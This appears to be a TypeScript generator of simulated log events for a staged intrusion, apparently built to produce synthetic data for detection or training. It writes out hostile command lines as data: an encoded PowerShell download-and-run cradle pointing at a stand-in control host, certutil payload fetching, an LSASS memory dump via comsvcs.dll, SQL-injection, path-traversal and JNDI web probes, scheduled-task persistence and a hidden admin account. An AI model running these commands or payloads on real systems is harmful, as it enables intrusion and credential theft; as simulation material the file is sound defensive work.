import { hostFor, personOf, type SampleHost } from "./company.ts";
import type { SimulatedEvent, Stage } from "./event.ts";
import { sshdAccepted, sshdFailed, sshdSession, sudoCommand, suSession, userAdded } from "./formats/linux.ts";
import { BROWSERS } from "./vocabulary.ts";
import {
  addedToAdministrators,
  auditLogCleared,
  fileCreated,
  logon,
  logonFailed,
  processAccess,
  serviceInstalled,
  userCreated,
} from "./windows-log.ts";
import { atWorkstation, type World, windowsUser } from "./world.ts";

/** The attackers' addresses are documentation addresses (RFC 5737). */
export const ATTACKER = {
  scannerIp: "203.0.113.66",
  lureSite: "docs.invoice-portal-sample.top",
  lureIp: "198.51.100.21",
  controlSite: "cdn.telemetry-sync-sample.xyz",
  controlIp: "198.51.100.23",
  storageSite: "upload.share-box-sample.click",
  storageIp: "198.51.100.40",
} as const;

const SYSTEM32 = "C:\\Windows\\System32";
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}\\cmd.exe`;
const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";

/** Where each stage begins, as a part of the story's span. */
const BEGINS: Readonly<Record<Stage, number>> = {
  "ssh-brute-force": 0,
  "web-scan": 0.08,
  phishing: 0.2,
  execution: 0.21,
  "command-and-control": 0.22,
  "credential-dump": 0.4,
  discovery: 0.46,
  "lateral-movement": 0.55,
  persistence: 0.65,
  collection: 0.75,
  exfiltration: 0.85,
  "cover-up": 0.97,
};

/** One intrusion from the first knock to the wiped log, in order of time. `durationMs` should be at least ten minutes. */
export function intrusion(world: World, startMs: number, durationMs: number): SimulatedEvent[] {
  const at = (stage: Stage) => startMs + Math.round(BEGINS[stage] * durationMs);
  const parts: readonly (readonly [Stage, SimulatedEvent[]])[] = [
    ["ssh-brute-force", bruteForce(world, at("ssh-brute-force"))],
    ["web-scan", scanWebsite(world, at("web-scan"))],
    ["phishing", openLure(world, at("phishing"))],
    ["execution", runMacro(world, at("execution"))],
    ["command-and-control", beacon(world, at("command-and-control"), at("cover-up"))],
    ["credential-dump", dumpCredentials(world, at("credential-dump"))],
    ["discovery", lookAround(world, at("discovery"))],
    ["lateral-movement", moveToFileServer(world, at("lateral-movement"))],
    ["persistence", stayOnFileServer(world, at("persistence"))],
    ["collection", collect(world, at("collection"))],
    ["exfiltration", upload(world, at("exfiltration"))],
    ["cover-up", coverUp(world, at("cover-up"))],
  ];
  return parts
    .flatMap(([stage, events]) => events.map((event) => ({ ...event, stage })))
    .sort((a, b) => a.atMs - b.atMs);
}

const victim = () => personOf("s.kato");
const admin = () => personOf("y.yamamoto");
const fileServer = () => hostFor("hq", "file-server");
const onFileServer = () => ({
  unit: fileServer().unit,
  computer: fileServer().name,
  user: windowsUser(admin().account),
});

function bruteForce(world: World, startMs: number): SimulatedEvent[] {
  const { random } = world;
  const server = hostFor("supplier", "linux");
  const events: SimulatedEvent[] = [];
  const write = (atMs: number, line: (where: { atMs: number; host: string }) => Buffer) =>
    events.push(world.linux(server, atMs, line({ atMs, host: server.name })));
  let atMs = startMs;
  for (let attempt = 0; attempt < 80; attempt += 1) {
    atMs += random.between(300, 2500);
    const user = random.pick(["root", "root", "edi", "admin"]);
    const remote = { pid: 21_000 + attempt, ip: ATTACKER.scannerIp, port: 40_000 + attempt };
    write(atMs, (where) => sshdFailed(where, { ...remote, user, isKnown: user !== "admin" }));
  }
  const remote = { pid: 21_090, ip: ATTACKER.scannerIp, port: 40_091, user: "edi" };
  write(atMs + 2000, (where) => sshdAccepted(where, { ...remote, key: undefined }));
  write(atMs + 2010, (where) => sshdSession(where, { pid: remote.pid, user: "edi", isOpen: true }));
  write(atMs + 21_000, (where) => sudoCommand(where, { user: "edi", command: "/bin/bash" }));
  write(atMs + 24_000, (where) => suSession(where, { pid: 21_140, user: "edi" }));
  write(atMs + 40_000, (where) => userAdded(where, { pid: 21_155, name: "sysupd", uid: 0 }));
  return events;
}

const PROBES: readonly (readonly [target: string, status: number])[] = [
  ["/", 200],
  ["/download?file=../../../../etc/passwd", 403],
  ["/static/..%2f..%2f..%2fetc%2fshadow", 400],
  ["/products/list?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 500],
  ["/products/list?id=1%20AND%20SLEEP(5)", 200],
  ["/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D", 200],
  [`/search?q=${"$"}{jndi:ldap://198.51.100.23:1389/a}`, 200],
  ["/wp-login.php", 404],
  ["/.git/config", 404],
  ["/.env", 404],
  ["/uploads/c99.php", 404],
  ["/uploads/cmd.jsp?c=whoami", 200],
];

function scanWebsite(world: World, startMs: number): SimulatedEvent[] {
  const server = hostFor("hq", "web");
  const way = { fromIp: ATTACKER.scannerIp, toIp: server.ip, toPort: 443, isAllowed: true, isOutbound: false };
  const hits = Array.from({ length: 90 }, (_, index) => {
    const [target, status] = PROBES[index % PROBES.length] ?? ["/", 200];
    const userAgent =
      index % 3 === 0 ? "sqlmap/1.8.11#stable (https://sqlmap.org)" : "Mozilla/5.0 (compatible; Nikto/2.5.0)";
    return world.web(server, startMs + index * 700, { clientIp: ATTACKER.scannerIp, target, status, userAgent });
  });
  return [world.firewall(server.unit, startMs, way), ...hits];
}

function openLure(world: World, startMs: number): SimulatedEvent[] {
  const { lureSite, lureIp } = ATTACKER;
  return [
    world.nameQuery(victim(), startMs, lureSite),
    world.proxy(victim(), startMs + 90, {
      method: "GET",
      url: `http://${lureSite}/2026/11/seikyusho_20261123.xlsm`,
      serverIp: lureIp,
      userAgent: BROWSERS[1],
      bytes: 184_220,
      contentType: "application/vnd.ms-excel.sheet.macroEnabled.12",
    }),
    fileCreated(world, atWorkstation(victim()), startMs + 2000, {
      image: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      file: `C:\\Users\\${victim().account}\\Downloads\\seikyusho_20261123.xlsm`,
    }),
    world.process(atWorkstation(victim()), startMs + 9000, {
      image: EXCEL,
      commandLine: `"${EXCEL}" "C:\\Users\\${victim().account}\\Downloads\\seikyusho_20261123.xlsm"`,
      parentImage: "C:\\Windows\\explorer.exe",
    }),
  ];
}

/** UTF-16LE in base64, as PowerShell's -EncodedCommand takes it. The script does nothing but name its download. */
const ENCODED = Buffer.from(
  `$u='http://${ATTACKER.controlSite}/s/stage2.txt';IEX (New-Object Net.WebClient).DownloadString($u)`,
  "utf16le",
).toString("base64");

function runMacro(world: World, startMs: number): SimulatedEvent[] {
  const who = atWorkstation(victim());
  const dropped = "C:\\Users\\Public\\Libraries\\msupd.dll";
  const { controlSite, controlIp } = ATTACKER;
  const agent = { serverIp: controlIp, contentType: "application/octet-stream" };
  return [
    world.process(who, startMs, {
      image: POWERSHELL,
      commandLine: `powershell.exe -NoP -W Hidden -Enc ${ENCODED}`,
      parentImage: EXCEL,
      original: "PowerShell.EXE",
    }),
    world.nameQuery(victim(), startMs + 700, controlSite),
    world.proxy(victim(), startMs + 900, {
      ...agent,
      method: "GET",
      url: `http://${controlSite}/s/stage2.txt`,
      userAgent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.22621.4391",
    }),
    world.process(who, startMs + 8000, {
      image: `${SYSTEM32}\\certutil.exe`,
      commandLine: `certutil.exe -urlcache -split -f http://${controlSite}/s/msupd.dll ${dropped}`,
      parentImage: POWERSHELL,
      original: "CertUtil.exe",
    }),
    world.proxy(victim(), startMs + 8400, {
      ...agent,
      method: "GET",
      url: `http://${controlSite}/s/msupd.dll`,
      userAgent: "CertUtil URL Agent",
    }),
    fileCreated(world, who, startMs + 9000, { image: `${SYSTEM32}\\certutil.exe`, file: dropped }),
    world.process(who, startMs + 12_000, {
      image: `${SYSTEM32}\\rundll32.exe`,
      commandLine: `rundll32.exe ${dropped},Start`,
      parentImage: POWERSHELL,
      original: "RUNDLL32.EXE",
    }),
  ];
}

/** Every minute, give or take a tenth, until the end: a request through the proxy, and now and then a question to DNS. */
function beacon(world: World, startMs: number, endMs: number): SimulatedEvent[] {
  const { random } = world;
  const { controlSite, controlIp } = ATTACKER;
  const events: SimulatedEvent[] = [];
  for (let atMs = startMs; atMs < endMs; atMs += 60_000 + random.between(-6000, 6000)) {
    const state = Buffer.from(random.hex(220), "hex").toString("base64url");
    events.push(
      world.proxy(victim(), atMs, {
        method: "GET",
        url: `http://${controlSite}/api/v2/sync?s=${state}`,
        serverIp: controlIp,
        userAgent: BROWSERS[0],
        bytes: 312,
        contentType: "application/json",
      }),
    );
    if (random.chance(0.2)) {
      events.push(
        world.nameQuery(victim(), atMs + 400, `${random.letters(52)}.${random.letters(12)}.${controlSite}`, "TXT"),
      );
    }
  }
  return events;
}

function dumpCredentials(world: World, startMs: number): SimulatedEvent[] {
  const on = { ...atWorkstation(victim()), user: "NT AUTHORITY\\SYSTEM" };
  const image = `${SYSTEM32}\\rundll32.exe`;
  const file = "C:\\Windows\\Temp\\wct4A1.tmp";
  return [
    world.process(on, startMs, {
      image,
      commandLine: `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 712 ${file} full`,
      parentImage: CMD,
      original: "RUNDLL32.EXE",
    }),
    processAccess(world, on, startMs + 60, {
      source: image,
      target: `${SYSTEM32}\\lsass.exe`,
      access: "0x1fffff",
      trace: `${SYSTEM32}\\ntdll.dll+9d584|${SYSTEM32}\\comsvcs.dll+23a01`,
    }),
    fileCreated(world, on, startMs + 400, { image, file }),
  ];
}

function lookAround(world: World, startMs: number): SimulatedEvent[] {
  const commands = [
    ["whoami.exe", "whoami /all"],
    ["net.exe", 'net group "Domain Admins" /domain'],
    ["nltest.exe", "nltest /dclist:ad.minato-seiki.example"],
    ["net.exe", "net view \\\\hq-fs01 /all"],
  ] as const;
  const asked = commands.map(([name, commandLine], index) =>
    world.process(atWorkstation(victim()), startMs + index * 11_000, {
      image: `${SYSTEM32}\\${name}`,
      commandLine,
      parentImage: CMD,
    }),
  );
  const knocks = [hostFor("hq", "domain-controller"), hostFor("hq", "linux"), hostFor("hq", "web")].map(
    (server, index) =>
      world.firewall("osaka", startMs + 60_000 + index * 900, {
        fromIp: victim().ip,
        toIp: server.ip,
        toPort: index === 0 ? 3389 : 22,
        isAllowed: false,
        isOutbound: true,
      }),
  );
  return [...asked, ...knocks];
}

function moveToFileServer(world: World, startMs: number): SimulatedEvent[] {
  const target: SampleHost = fileServer();
  const stolen = { account: admin().account, type: 3, ip: victim().ip, from: victim().workstation.toUpperCase() };
  const way = { fromIp: victim().ip, toIp: target.ip, toPort: 445, isAllowed: true, isOutbound: true };
  const system = { ...onFileServer(), user: "NT AUTHORITY\\SYSTEM" };
  return [
    logonFailed(world, onFileServer(), startMs, { ...stolen, account: "Administrator" }),
    world.firewall("osaka", startMs + 5000, way),
    logon(world, onFileServer(), startMs + 5200, stolen),
    serviceInstalled(world, onFileServer(), startMs + 6000, { name: "PSEXESVC", path: "%SystemRoot%\\PSEXESVC.exe" }),
    world.process(system, startMs + 7000, {
      image: CMD,
      commandLine: "cmd.exe /c hostname & whoami",
      parentImage: "C:\\Windows\\PSEXESVC.exe",
    }),
    world.process(atWorkstation(victim()), startMs + 40_000, {
      image: `${SYSTEM32}\\wbem\\WMIC.exe`,
      commandLine: `wmic /node:hq-fs01 /user:MINATO\\${admin().account} process call create "cmd.exe /c net share"`,
      parentImage: CMD,
      original: "wmic.exe",
    }),
  ];
}

function stayOnFileServer(world: World, startMs: number): SimulatedEvent[] {
  const on = onFileServer();
  const by = admin().account;
  return [
    fileCreated(world, on, startMs, { image: CMD, file: "C:\\ProgramData\\Oracle\\jupdate.exe" }),
    world.process(on, startMs + 2000, {
      image: `${SYSTEM32}\\schtasks.exe`,
      commandLine:
        'schtasks /create /tn "JavaUpdateCheck" /tr "C:\\ProgramData\\Oracle\\jupdate.exe" /sc minute /mo 30 /ru SYSTEM /f',
      parentImage: CMD,
    }),
    serviceInstalled(world, on, startMs + 20_000, {
      name: "JavaUpdSvc",
      path: "C:\\ProgramData\\Oracle\\jupdate.exe -k",
    }),
    world.process(on, startMs + 40_000, {
      image: `${SYSTEM32}\\net.exe`,
      commandLine: "net user svc_backup2 N0tARealPassw0rd /add",
      parentImage: CMD,
    }),
    userCreated(world, on, startMs + 40_300, by, "svc_backup2"),
    addedToAdministrators(world, on, startMs + 44_000, by),
  ];
}

function collect(world: World, startMs: number): SimulatedEvent[] {
  return [
    world.process(onFileServer(), startMs, {
      image: "C:\\ProgramData\\Oracle\\7z.exe",
      commandLine: "7z.exe a -mhe=on -pQ9x2vT7 -v500m C:\\ProgramData\\Oracle\\d.7z D:\\share\\図面 D:\\share\\見積",
      parentImage: CMD,
    }),
    fileCreated(world, onFileServer(), startMs + 240_000, {
      image: "C:\\ProgramData\\Oracle\\7z.exe",
      file: "C:\\ProgramData\\Oracle\\d.7z.001",
    }),
  ];
}

function upload(world: World, startMs: number): SimulatedEvent[] {
  const { storageSite, storageIp } = ATTACKER;
  const proxy = hostFor("hq", "proxy");
  const parts = Array.from({ length: 4 }, (_, index) => startMs + index * 45_000).flatMap((atMs) => [
    world.proxy(admin(), atMs, {
      method: "CONNECT",
      url: `${storageSite}:443`,
      clientIp: fileServer().ip,
      user: "-",
      serverIp: storageIp,
      userAgent: "curl/8.9.1",
      bytes: 5120,
      elapsedMs: 41_000,
    }),
    world.firewall("hq", atMs + 41_200, {
      fromIp: proxy.ip,
      toIp: storageIp,
      toPort: 443,
      isAllowed: true,
      isOutbound: true,
      sentBytes: 524_288_000 + world.random.between(0, 4_000_000),
      receivedBytes: 5120,
      durationSeconds: 41,
    }),
  ]);
  const shell = {
    fromIp: fileServer().ip,
    toIp: ATTACKER.controlIp,
    toPort: 4444,
    isAllowed: true,
    isOutbound: true,
    sentBytes: 8200,
  };
  return [
    world.nameQuery({ unit: "hq", ip: fileServer().ip }, startMs - 500, storageSite),
    ...parts,
    world.firewall("hq", startMs + 200_000, shell),
  ];
}

const coverUp = (world: World, startMs: number): SimulatedEvent[] => [
  auditLogCleared(world, onFileServer(), startMs, admin().account),
];
